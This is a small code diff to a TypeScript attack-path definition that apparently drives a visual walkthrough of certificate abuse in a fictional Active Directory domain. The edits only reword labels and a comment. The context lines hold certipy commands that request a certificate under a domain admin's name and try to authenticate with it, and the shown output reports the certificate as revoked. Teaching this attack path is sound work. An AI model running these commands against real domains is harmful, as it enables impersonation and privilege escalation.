@@ -37,10 +37,10 @@ export const networkPath: AttackPath = {
       ],
     },
     {
-      label: 'foreign name',
+      label: 'someone else’s name',
       glyph: 'document',
       lane: 0,
-      name: 'Ask for another name',
+      name: 'Request someone else’s name',
       lines: [
         '$ certipy req -ca KESTREL-CA -template VPN-User \\',
         '    -upn {-da1@corp.kestrel.example-} {#1}',
@@ -67,7 +67,7 @@ export const networkPath: AttackPath = {
       after: [
         '$ certipy auth -pfx da1.pfx -dc-ip 10.20.0.10',
         '{+[-] KDC_ERR_CLIENT_REVOKED+}',
-        '# the first certificate is revoked, too',
+        '# the first certificate was revoked too',
       ],
     },
   ],
